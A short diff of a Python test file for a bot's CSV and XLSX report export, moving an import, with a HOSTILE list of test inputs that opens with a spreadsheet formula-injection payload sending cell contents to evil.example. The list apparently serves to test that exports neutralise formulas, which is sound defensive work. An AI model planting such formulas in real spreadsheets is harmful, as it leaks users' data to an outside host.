@@ -10,9 +10,9 @@ import pytest
 from aiogram.utils.i18n import I18n
 from openpyxl import load_workbook
 
-from bot.config import LOCALES_DIR
 from bot.services.quality import Period, QualityReport
 from bot.services.report_output import report_csv, report_xlsx
+from bot.settings import LOCALES_DIR
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"Click")',
